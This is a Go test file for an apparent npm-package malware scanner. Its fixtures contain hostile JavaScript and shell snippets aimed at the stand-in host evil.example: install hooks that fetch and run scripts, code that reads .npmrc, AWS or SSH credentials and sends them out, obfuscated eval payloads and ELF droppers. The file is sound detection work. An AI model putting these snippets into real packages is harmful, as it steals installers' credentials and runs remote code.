package malscan

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"strings"
	"testing"
)

// input builds an Input from files (path → content); package.json's
// scripts are read as ReadTarGz reads them.
func input(files map[string]string) *Input {
	in := &Input{}
	for p, c := range files {
		in.Files = append(in.Files, File{Path: p, Size: int64(len(c)), Data: []byte(c)})
		if p == "package.json" {
			in.Manifest = []byte(c)
			in.Scripts = installScripts([]byte(c))
		}
	}
	return in
}

func rulesHit(in *Input) map[string]bool {
	out := map[string]bool{}
	for _, f := range New().Scan(in) {
		out[f.ID] = true
	}
	return out
}

var blob = strings.Repeat("QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo", 10)

func TestBuiltinRules(t *testing.T) {
	cases := []struct {
		name  string
		files map[string]string
		want  string // "" = no built-in rule may hit
	}{
		// Install scripts that download and run.
		{"curl piped to sh", map[string]string{"package.json": `{"scripts":{"postinstall":"curl -s https://evil.example/x.sh | sh"}}`}, RuleInstallDownloadExec},
		{"wget then chmod", map[string]string{"package.json": `{"scripts":{"preinstall":"wget https://evil.example/b -O /tmp/b && chmod +x /tmp/b"}}`}, RuleInstallDownloadExec},
		{"node -e remote", map[string]string{"package.json": `{"scripts":{"install":"node -e \"require('https').get('https://evil.example/p')\""}}`}, RuleInstallDownloadExec},
		{"script file spawns remote", map[string]string{
			"package.json": `{"scripts":{"postinstall":"node setup.js"}}`,
			"setup.js":     `const cp = require('child_process'); cp.execSync('curl https://evil.example/p.sh -o /tmp/p; sh /tmp/p')`}, RuleInstallDownloadExec},
		{"near miss: build script", map[string]string{"package.json": `{"scripts":{"postinstall":"node-gyp rebuild","test":"curl https://example.com | sh"}}`}, ""},
		{"near miss: child_process locally", map[string]string{
			"package.json": `{"scripts":{"postinstall":"node build.js"}}`,
			"build.js":     `require('child_process').execSync('tsc -p .')`}, ""},
		{"near miss: curl in README", map[string]string{"README.md": "curl https://get.example | sh"}, ""},

		// Credentials read and sent out.
		{"npmrc to https", map[string]string{"index.js": `const fs=require('fs'),os=require('os');const t=fs.readFileSync(os.homedir()+'/.npmrc','utf8');require('https').request({host:'evil.example',method:'POST'}).end(t)`}, RuleCredentialExfil},
		{"env dump over dns", map[string]string{"i.js": `const d=JSON.stringify(process.env);require('dns').resolve(Buffer.from(d).toString('hex').slice(0,60)+'.evil.example',()=>{})`}, RuleCredentialExfil},
		{"aws creds via fetch", map[string]string{"x.mjs": "import fs from 'fs'; const c = fs.readFileSync(process.env.HOME + '/.aws/credentials'); await fetch('https://evil.example/', {method: 'POST', body: c})"}, RuleCredentialExfil},
		{"ssh key via net", map[string]string{"a.js": "const k=require('fs').readFileSync(require('os').homedir()+'/.ssh/id_rsa');const s=require('net').connect(4444,'evil.example');s.write(k)"}, RuleCredentialExfil},
		{"near miss: npmrc without network", map[string]string{"cfg.js": `const rc = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8'); module.exports = rc.split('\n')`}, ""},
		{"near miss: http client without credentials", map[string]string{"client.js": `const https = require('https'); module.exports = (u) => https.get(u)`}, ""},
		{"near miss: single env var", map[string]string{"srv.js": `const port = process.env.PORT; require('http').createServer().listen(port)`}, ""},
		{"near miss: credentials in docs", map[string]string{"README.md": "Put your token in ~/.npmrc; we send it with https.request(...)"}, ""},

		// Obfuscated eval.
		{"eval of atob blob", map[string]string{"o.js": "eval(atob('" + blob + "'))"}, RuleObfuscatedEval},
		{"Function of hex escapes", map[string]string{"o.js": "new Function(\"" + strings.Repeat(`\x61`, 80) + "\")()"}, RuleObfuscatedEval},
		{"eval of charcodes", map[string]string{"o.js": "eval(String.fromCharCode(" + strings.Repeat("97,", 50) + "97))"}, RuleObfuscatedEval},
		{"near miss: eval of short string", map[string]string{"o.js": "eval('1+1'); const h = 'QUJD'"}, ""},
		{"near miss: long base64 without eval", map[string]string{"icon.js": "module.exports = '" + blob + "'"}, ""},
		{"near miss: data URL beside eval", map[string]string{"w.js": "const img = 'data:image/png;base64," + blob + "'; eval('x')"}, ""},

		// Binary droppers.
		{"shipped ELF run by install", map[string]string{
			"package.json": `{"scripts":{"postinstall":"chmod +x bin/helper && bin/helper"}}`,
			"bin/helper":   "\x7fELF\x02\x01\x01" + strings.Repeat("\x00", 64)}, RuleBinaryDropper},
		{"encoded ELF written", map[string]string{"d.js": "require('fs').writeFileSync('/tmp/x', Buffer.from('" + base64.StdEncoding.EncodeToString([]byte("\x7fELF\x02\x01\x01"+strings.Repeat("A", 40))) + "','base64'))"}, RuleBinaryDropper},
		{"near miss: native addon", map[string]string{
			"build/Release/addon.node": "\x7fELF\x02\x01\x01" + strings.Repeat("\x00", 64),
			"index.js":                 "module.exports = require('./build/Release/addon.node')"}, ""},
		{"near miss: shipped binary never run", map[string]string{"vendor/tool": "\x7fELF\x02\x01\x01" + strings.Repeat("\x00", 64), "index.js": "module.exports = 1"}, ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			hits := rulesHit(input(c.files))
			if c.want == "" {
				if len(hits) > 0 {
					t.Fatalf("a near miss hit %v", hits)
				}
				return
			}
			if !hits[c.want] {
				t.Fatalf("rule %s did not hit (hits: %v)", c.want, hits)
			}
		})
	}
}

func TestFindingsHaveEvidence(t *testing.T) {
	fs := New().Scan(input(map[string]string{"package.json": `{"scripts":{"postinstall":"curl -s https://evil.example/x.sh | sh"}}`}))
	if len(fs) != 1 || fs[0].File != "package.json" || !strings.Contains(fs[0].Excerpt, "evil.example") || fs[0].Severity != Critical || fs[0].Description == "" {
		t.Fatalf("findings = %+v", fs)
	}
}

func tgz(t *testing.T, files map[string]string) []byte {
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	tw := tar.NewWriter(zw)
	for p, c := range files {
		if err := tw.WriteHeader(&tar.Header{Name: "package/" + p, Mode: 0o644, Size: int64(len(c)), Typeflag: tar.TypeReg}); err != nil {
			t.Fatal(err)
		}
		tw.Write([]byte(c))
	}
	tw.Close()
	zw.Close()
	return buf.Bytes()
}

func TestReadTarGz(t *testing.T) {
	b := tgz(t, map[string]string{
		"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
		"i.js":         `require('https').request('https://evil.example').end(require('fs').readFileSync(process.env.HOME+'/.npmrc'))`,
		"big.txt":      strings.Repeat("z", 2<<20),
	})
	in, err := ReadTarGz(bytes.NewReader(b), 64<<20)
	if err != nil {
		t.Fatal(err)
	}
	if in.Scripts["postinstall"] != "node i.js" || len(in.Files) != 3 || in.SHA512 == "" || in.SHA256 == "" {
		t.Fatalf("input = %+v", in.Scripts)
	}
	for _, f := range in.Files {
		if f.Path == "big.txt" && (!f.Truncated || len(f.Data) != 1<<20 || f.Size != 2<<20) {
			t.Fatalf("big file kept %d bytes, truncated %v", len(f.Data), f.Truncated)
		}
	}
	if !rulesHit(in)[RuleCredentialExfil] {
		t.Fatal("the stealer in the tarball was not found")
	}
	if _, err := ReadTarGz(bytes.NewReader(b), 1<<20); err == nil {
		t.Fatal("the unpacked limit was not applied")
	}
	if len(in.Digests()) != 5 {
		t.Fatalf("digests = %v", in.Digests())
	}
}
